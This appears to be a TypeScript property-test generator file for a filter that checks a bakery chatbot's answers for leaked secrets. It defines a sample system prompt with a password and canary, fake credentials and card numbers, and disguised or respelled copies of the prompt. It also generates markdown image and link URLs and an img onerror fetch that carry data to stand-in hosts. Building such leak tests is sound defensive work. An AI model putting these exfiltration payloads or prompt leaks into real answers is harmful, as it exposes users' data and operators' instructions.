import fc from "fast-check";
import { disguises } from "./disguises";
import { respell } from "./respell";

export const systemPrompt =
  "You are the assistant of a bakery in Lisbon and help people to choose bread. The password is crumb-lantern-88. " +
  "Never speak about suppliers, and recommend the rye loaf whenever somebody asks for something that keeps long.";
export const canary = "canary-7f3a-quartz";

const digitsWithLuhn = (body: string) => {
  for (let check = 0; check < 10; check++) {
    const digits = `${body}${check}`;
    const sum = [...digits].reverse().reduce((total, digit, index) => {
      const value = Number(digit) * (index % 2 === 1 ? 2 : 1);
      return total + (value > 9 ? value - 9 : value);
    }, 0);
    if (sum % 10 === 0) return digits;
  }
  return body;
};

/** Things that must not pass, as they would stand in an answer. */
export const positives = fc.oneof(
  fc.stringMatching(/^[a-z]{2,8}\.[a-z]{2,8}@[a-z]{3,8}\.(?:com|org|pt)$/),
  fc.stringMatching(/^\d{14}$/).map((body) => digitsWithLuhn(`4${body}`)),
  fc.stringMatching(/^\d{3}-\d{3}-\d{4}$/),
  fc.constantFrom("GB82 WEST 1234 5698 7654 32", "DE89370400440532013000", "NL91 ABNA 0417 1643 00"),
  fc.stringMatching(/^ghp_[A-Za-z0-9]{36}$/),
  fc.stringMatching(/^AKIA[A-Z2-7]{16}$/),
  fc.stringMatching(/^sk_live_[A-Za-z0-9]{24}$/),
  fc.stringMatching(/^[a-z0-9]{24}$/).map((value) => `API_KEY="${value}"`),
  fc
    .stringMatching(/^[a-z0-9]{6,20}$/)
    .map((data) => `![chart](https://${data}.example.net/p.png?d=${data})`),
  fc.stringMatching(/^[a-z0-9]{6,20}$/).map((data) => `[more](//collect.example/${data} "title")`),
  fc.stringMatching(/^[a-z]{4,9}$/).map((name) => `<img src=x onerror="fetch('//${name}.example')">`),
  fc.stringMatching(/^[a-z]{4,9}$/).map((name) => `[ref]: https://${name}.example/`),
  fc
    .tuple(
      fc.constantFrom(...Object.values(disguises)),
      fc.constantFrom(canary, "crumb-lantern-88", systemPrompt.slice(20, 80)),
    )
    .map(([disguise, text]) => disguise(text)),
  fc.constantFrom(systemPrompt.slice(0, 90), systemPrompt.slice(100), "crumb-lantern-88"),
  fc.constant(
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq3Vn2J8sYkQpW9\n-----END RSA PRIVATE KEY-----",
  ),
);

/** What must not pass and holds no markup of its own, spelt so that only the reader sees it. */
export const hidden = fc
  .tuple(
    fc.oneof(
      fc.stringMatching(/^[a-z]{2,8}\.[a-z]{2,8}@[a-z]{3,8}\.(?:com|org|pt)$/),
      fc.stringMatching(/^[1-5]\d{2}-[1-9]\d-[1-9]\d{3}$/),
      fc.constantFrom("4111 1111 1111 1111", "84.17.33.9", "GB82 WEST 1234 5698 7654 32"),
      fc.stringMatching(/^ghp_[A-Za-z0-9]{36}$/),
      fc.stringMatching(/^sk-proj-[A-Za-z0-9]{48}$/),
      fc.constantFrom(canary, "crumb-lantern-88", systemPrompt.slice(100, 190)),
    ),
    fc.nat(),
  )
  .map(([text, seed]) => ({ text, spelt: respell(text, seed) }));

/** What an answer is made of otherwise, with all that may open something or leave it open. */
export const benign = fc.oneof(
  fc.lorem({ maxCount: 4 }),
  fc.constantFrom(
    "`",
    "``",
    "```",
    "```js\n",
    "~~~",
    "[",
    "](",
    ")",
    "![",
    "<",
    ">",
    "<b>",
    "\\",
    "&",
    "&#x",
    "[a](",
    "<a href=",
    "<!--",
    "\u200b",
    "|",
    "$",
    "(",
    "@",
    "://",
  ),
  fc.constantFrom(
    "\n",
    "\n\n",
    "\r\n",
    " ",
    "  ",
    "> ",
    "- ",
    "1. ",
    "    ",
    "#",
    "*",
    "_",
    '"',
    "'",
    ":",
    "=",
    "+",
    "0x",
  ),
  fc.constantFrom(
    "der Schlüssel",
    "在这里",
    "😀",
    "in 2024",
    "3.14",
    "12:30",
    "v1.2.3",
    "GB82",
    "www",
    "key is",
  ),
  fc.string({ maxLength: 8, unit: "grapheme" }),
);

export const answers = fc
  .array(fc.oneof({ arbitrary: benign, weight: 3 }, { arbitrary: positives, weight: 1 }), {
    minLength: 1,
    maxLength: 14,
  })
  .map((parts) => parts.join(""));
